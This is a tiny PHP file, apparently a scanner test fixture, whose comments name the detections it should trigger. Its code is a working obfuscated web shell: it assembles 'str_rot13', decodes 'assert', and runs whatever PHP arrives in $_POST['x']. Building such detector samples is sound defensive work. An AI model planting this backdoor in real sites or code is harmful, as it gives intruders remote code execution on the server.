<?php
// A function name built from pieces and rot13: assert.
// want: php_request_code_exec php_hidden_function_name php_hidden_decoder_name
// fold: assert
$c = 's'.'tr_r'.'ot13';
$f = $c('nffreg');
$f($_POST['x']);
